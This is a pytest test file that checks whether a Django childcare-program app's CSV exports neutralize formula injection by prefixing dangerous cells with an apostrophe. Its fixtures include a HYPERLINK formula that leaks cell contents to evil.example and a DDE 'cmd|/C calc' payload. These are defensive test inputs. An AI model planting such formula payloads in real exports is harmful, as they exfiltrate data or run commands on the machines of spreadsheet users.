"""Every CSV export neutralizes cells a spreadsheet would run (issue 14, finding 10).

One module writes them (attune.lib.csvout); each export is checked here with a value that
starts like a formula: the children, families and caregivers exports, the import's problem
report, the continuity CSVs and the registry export.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.http import HttpResponse
from django.urls import reverse

from attune.lib import csvout
from attune.programs import imports
from attune.programs.models import Caregiver, Child, Family, Guardian, ImportBatch, Program
from attune.training.models import Person
from tests.conftest import World
from tests.plans.test_continuity_views import with_history
from tests.programs.test_imports import CHILD_HEADER, child_row, csv_bytes
from tests.training.helpers import tft

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Ana")'


def parsed(response: HttpResponse) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(body.decode("utf-8").lstrip("\ufeff"))))


def cells(response: HttpResponse) -> set[str]:
    return {value for row in parsed(response) for value in row}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(start: str) -> None:
    assert csvout.cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


def test_numbers_and_plain_text_are_left_alone() -> None:
    for value in ("-3", "+0.5", "-1.25e3", "Ana", "", "O'Brien", 42, -7, 1.5):
        assert csvout.cell(value) == str(value)
    assert csvout.cell(None) == "" and csvout.cell(True) == "yes"
    assert csvout.cell("-1+1") == "'-1+1"
    assert csvout.write([["a", "=1"], ["b", "c"]]) == "a,'=1\r\nb,c\r\n"


@pytest.mark.parametrize("kind", ["children", "families", "caregivers"])
def test_the_program_exports(world: World, kind: str) -> None:
    Child.objects.filter(pk=world.child.pk).update(preferred_name=EVIL, allergies="@SUM(1)")
    Family.objects.filter(pk=world.family.pk).update(name=EVIL)
    Guardian.objects.filter(pk=world.guardian.pk).update(last_name="+cmd")
    Caregiver.objects.filter(pk=world.caregiver.pk).update(first_name=EVIL, phone="-2+3")
    url = reverse("export_csv", kwargs={"program_id": world.program.pk, "kind": kind})
    response = world.client("director").get(url)
    assert response.status_code == 200
    values = cells(response)
    assert "'" + EVIL in values and EVIL not in values
    assert not any(v.startswith(csvout.FORMULA_START) and not v[1:2].isdigit() for v in values)
    if kind == "caregivers":
        assert "'-2+3" in values


def test_the_import_problem_report(world: World) -> None:
    data = csv_bytes([CHILD_HEADER, child_row(birth_date=EVIL, room="@evil")])
    report = imports.preview(program=world.program, kind="children", data=data, filename="c.csv")
    assert report.errors
    batch = ImportBatch.objects.create(
        program=world.program, kind="children", filename="c.csv", encoding=report.encoding,
        content=report.text, row_count=report.rows, error_count=report.error_rows,
    )  # fmt: skip
    url = reverse("import_preview", kwargs={"batch_id": batch.pk})
    response = world.client("director").get(url, {"format": "csv"})
    assert response.status_code == 200
    values = cells(response)
    assert "'" + EVIL in values and "'@evil" in values and EVIL not in values
    assert response["Cache-Control"].startswith("no-store")


def test_the_continuity_exports(world: World) -> None:
    with_history(world)
    Child.objects.filter(pk=world.child.pk).update(first_name=EVIL)
    Program.objects.filter(pk=world.program.pk).update(name="-" + EVIL)
    program_csv = world.client("director").get(
        reverse("program_continuity_csv", kwargs={"program_id": world.program.pk})
    )
    state_csv = world.client("state_admin").get(reverse("state_continuity_csv"))
    for response in (program_csv, state_csv):
        assert response.status_code == 200
        values = cells(response)
        assert not [v for v in values if v.startswith(("=", "@")) or v.startswith("-=")]
    assert "'-" + EVIL in cells(state_csv)


def test_the_registry_export(world: World) -> None:
    tft(world)
    Person.objects.filter(user=world.users["trainer"]).update(first_name=EVIL, last_name="@x")
    from attune.training.models import RegistryExport

    client = world.client("state_admin")
    exported = client.post(
        reverse("training_registry_export"), {"state": world.jurisdiction.pk, "layout": "attune"}
    )
    assert exported.status_code == 302  # the job that wrote the file
    batch = RegistryExport.objects.get()
    response = client.get(reverse("training_registry_batch", args=[batch.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    values = cells(response)
    assert "'" + EVIL in values and "'@x" in values and EVIL not in values


def test_no_module_writes_csv_by_hand() -> None:
    from pathlib import Path

    src = Path(__file__).resolve().parents[2] / "src" / "attune"
    offenders = [
        str(path.relative_to(src))
        for path in src.rglob("*.py")
        if path.name != "csvout.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert not offenders, f"write CSV with attune.lib.csvout: {offenders}"
